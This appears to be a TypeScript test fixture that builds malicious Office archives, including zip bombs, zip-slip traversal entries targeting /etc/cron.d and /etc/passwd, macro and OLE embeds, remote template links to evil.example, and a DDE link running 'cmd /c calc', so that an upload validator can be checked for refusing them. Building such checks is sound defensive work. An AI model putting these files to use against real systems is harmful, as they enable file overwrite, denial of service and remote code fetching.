import { deflateRawSync } from 'node:zlib';
import { type HostileFile, foreign, harmlessIn, refusedIn } from './hostile-file.ts';
import { type ZipEntry, zip } from './zip.ts';

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const OFFICE = 'http://schemas.openxmlformats.org';
const RELATION = `${OFFICE}/officeDocument/2006/relationships`;
const TYPE = 'application/vnd.openxmlformats-officedocument';
const SHEET = `${TYPE}.spreadsheetml.sheet.main+xml`;
const DOCUMENT = `${TYPE}.wordprocessingml.document.main+xml`;

const contentTypes = (parts: Record<string, string>): ZipEntry => ({
  name: '[Content_Types].xml',
  data: `${XML}<Types xmlns="${OFFICE}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${Object.entries(
    parts,
  )
    .map(([name, type]) => `<Override PartName="/${name}" ContentType="${type}"/>`)
    .join('')}</Types>`,
});

type Relation = { type: string; target: string; external?: boolean };

const relations = (name: string, list: Relation[]): ZipEntry => ({
  name,
  data: `${XML}<Relationships xmlns="${OFFICE}/package/2006/relationships">${list
    .map(
      ({ type, target, external }, index) =>
        `<Relationship Id="rId${index + 1}" Type="${RELATION}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
    )
    .join('')}</Relationships>`,
});

const sheet = (dimension: string): ZipEntry => ({
  name: 'xl/worksheets/sheet1.xml',
  data: `${XML}<worksheet xmlns="${OFFICE}/spreadsheetml/2006/main"><dimension ref="${dimension}"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Prénom</t></is></c><c r="B1" t="inlineStr"><is><t>Nom</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Éloïse</t></is></c><c r="B2" t="inlineStr"><is><t>Côté</t></is></c></row></sheetData></worksheet>`,
});

type Changes = {
  types?: Record<string, string>;
  dimension?: string;
  relations?: Relation[];
  more?: ZipEntry[];
  count?: number;
};

/** A workbook of one sheet and two rows, with what a test adds to it. */
export const xlsx = (changes: Changes = {}): Buffer =>
  zip(
    [
      contentTypes({
        'xl/workbook.xml': SHEET,
        'xl/worksheets/sheet1.xml': `${TYPE}.spreadsheetml.worksheet+xml`,
        ...changes.types,
      }),
      relations('_rels/.rels', [{ type: 'officeDocument', target: 'xl/workbook.xml' }]),
      {
        name: 'xl/workbook.xml',
        data: `${XML}<workbook xmlns="${OFFICE}/spreadsheetml/2006/main" xmlns:r="${RELATION}"><sheets><sheet name="Personnes" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      },
      relations('xl/_rels/workbook.xml.rels', [{ type: 'worksheet', target: 'worksheets/sheet1.xml' }]),
      sheet(changes.dimension ?? 'A1:B2'),
      ...(changes.relations ? [relations('xl/worksheets/_rels/sheet1.xml.rels', changes.relations)] : []),
      ...(changes.more ?? []),
    ],
    changes.count,
  );

/** A document of one paragraph, with what a test adds to it. */
export const docx = (changes: Changes = {}): Buffer =>
  zip([
    contentTypes({ 'word/document.xml': DOCUMENT, ...changes.types }),
    relations('_rels/.rels', [{ type: 'officeDocument', target: 'word/document.xml' }]),
    {
      name: 'word/document.xml',
      data: `${XML}<w:document xmlns:w="${OFFICE}/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Politique de télétravail</w:t></w:r></w:p></w:body></w:document>`,
    },
    ...(changes.relations ? [relations('word/_rels/document.xml.rels', changes.relations)] : []),
    ...(changes.more ?? []),
  ]);

const MEGABYTE = 1024 * 1024;
const EXTERNAL_LINK = `${TYPE}.spreadsheetml.externalLink+xml`;
const link = (inside: string, name = 'xl/externalLinks/externalLink1.xml'): Changes => ({
  types: { [name]: EXTERNAL_LINK },
  more: [{ name, data: `${XML}<externalLink xmlns="${OFFICE}/spreadsheetml/2006/main">${inside}</externalLink>` }],
});

const bombs = (): HostileFile[] => {
  const zeros = Buffer.alloc(100 * MEGABYTE);
  const packed = deflateRawSync(zeros);
  const bomb = (entry: Partial<ZipEntry>): Buffer =>
    xlsx({ more: [{ name: 'xl/sharedStrings.xml', data: zeros, packed, ...entry }] });
  const crowd = Array.from({ length: 100_000 }, (_, index) => ({ name: `xl/${index}`, data: '', packed: Buffer.alloc(0) }));
  const nobody = Buffer.from([3, 0]); // nothing, packed
  return [
    refusedIn('sheet', 'FILE_HARMFUL', 'bomb.xlsx', bomb({}), 'bomb'),
    refusedIn('sheet', 'FILE_DAMAGED', 'bomb-that-lies.xlsx', bomb({ claimedSize: 1000 })),
    refusedIn(
      'sheet',
      'FILE_HARMFUL',
      'bomb-of-100000-entries.xlsx',
      xlsx({ more: crowd.map((entry) => ({ ...entry, packed: nobody })) }),
      'bomb',
    ),
    refusedIn(
      'sheet',
      'FILE_HARMFUL',
      'bomb-of-entries-not-counted.xlsx',
      xlsx({ more: crowd.map((entry) => ({ ...entry, packed: nobody })), count: 5 }),
      'polyglot',
    ),
  ];
};

const evil = (name: string, changes: Changes, reason: string): HostileFile =>
  refusedIn(name.endsWith('docx') ? 'document' : 'sheet', 'FILE_HARMFUL', name, (name.endsWith('docx') ? docx : xlsx)(changes), reason);
const entry = (name: string, more: Partial<ZipEntry> = {}): Changes => ({ more: [{ name, data: 'x', ...more }] });

export const hostileArchives = (): HostileFile[] => [
  foreign('plain.zip', zip([{ name: 'a.txt', data: 'a' }])),
  foreign('empty.zip', zip([])),
  ...bombs(),
  evil('zip-slip.xlsx', entry('../../../etc/cron.d/evil'), 'traversal'),
  evil('zip-slip-backslash.xlsx', entry('..\\..\\evil.exe'), 'traversal'),
  evil('zip-absolute.docx', entry('/etc/passwd'), 'traversal'),
  evil('zip-drive.docx', entry('C:/Windows/evil.dll'), 'traversal'),
  evil('zip-symbolic-link.docx', entry('word/link', { mode: 0o120777 }), 'traversal'),
  evil('two-names.docx', entry('word/a.xml', { localName: 'word/b.xml' }), 'polyglot'),
  evil('same-name-twice.docx', entry('word/document.xml'), 'polyglot'),
  evil('encrypted-entry.xlsx', entry('xl/secret.xml', { flags: 1 }), 'encrypted'),
  evil('nested.docx', entry('word/media/image1.png', { data: zip([{ name: 'a', data: 'a' }]) }), 'nested'),
  refusedIn('sheet', 'FILE_HARMFUL', 'tail.xlsx', Buffer.concat([xlsx(), xlsx({ more: [{ name: 'b', data: '' }] })]), 'polyglot'),
  refusedIn('document', 'FILE_DAMAGED', 'html-tail.docx', Buffer.concat([docx(), Buffer.from('<script>alert(1)</script>')])),
  refusedIn('document', 'FILE_DAMAGED', 'truncated.docx', docx().subarray(0, 700)),
  evil('macros.xlsm', { types: { 'xl/workbook.xml': 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' } }, 'activeContent'),
  evil('macros-named-otherwise.xlsx', { ...entry('xl/x.bin'), types: { 'xl/x.bin': 'application/vnd.ms-office.vbaProject' } }, 'activeContent'),
  evil('macros.docx', entry('word/vbaProject.bin'), 'activeContent'),
  evil('macro-sheet.xlsx', entry('xl/macrosheets/sheet1.xml'), 'activeContent'),
  evil('embedded-object.docx', entry('word/embeddings/oleObject1.bin'), 'activeContent'),
  evil('template-injection.docx', { relations: [{ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', external: true }] }, 'activeContent'),
  evil('template-on-a-share.docx', { relations: [{ type: 'attachedTemplate', target: '\\\\evil\\share\\t.dotm', external: true }] }, 'activeContent'),
  evil('picture-from-elsewhere.docx', { relations: [{ type: 'image', target: 'http://evil.example/a.png', external: true }] }, 'activeContent'),
  evil('disguised-relation.docx', { relations: [{ type: 'image', target: 'http:&#47;&#x2f;evil.example/a', external: true }] }, 'activeContent'),
  evil('external-workbook.xlsx', { relations: [{ type: 'externalLinkPath', target: 'file://evil/share/b.xlsx', external: true }] }, 'activeContent'),
  evil('dde.xlsx', link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), 'activeContent'),
  evil('dde-named-otherwise.xlsx', link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', 'xl/a.xml'), 'activeContent'),
  refusedIn('document', 'FILE_DAMAGED', 'entities.docx', docx({ more: [{ name: 'word/_rels/a.rels', data: `<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>` }] })),
  harmlessIn(['sheet'], 'one-cell-of-a-huge-sheet.xlsx', xlsx({ dimension: 'A1:XFD1048576' })),
];
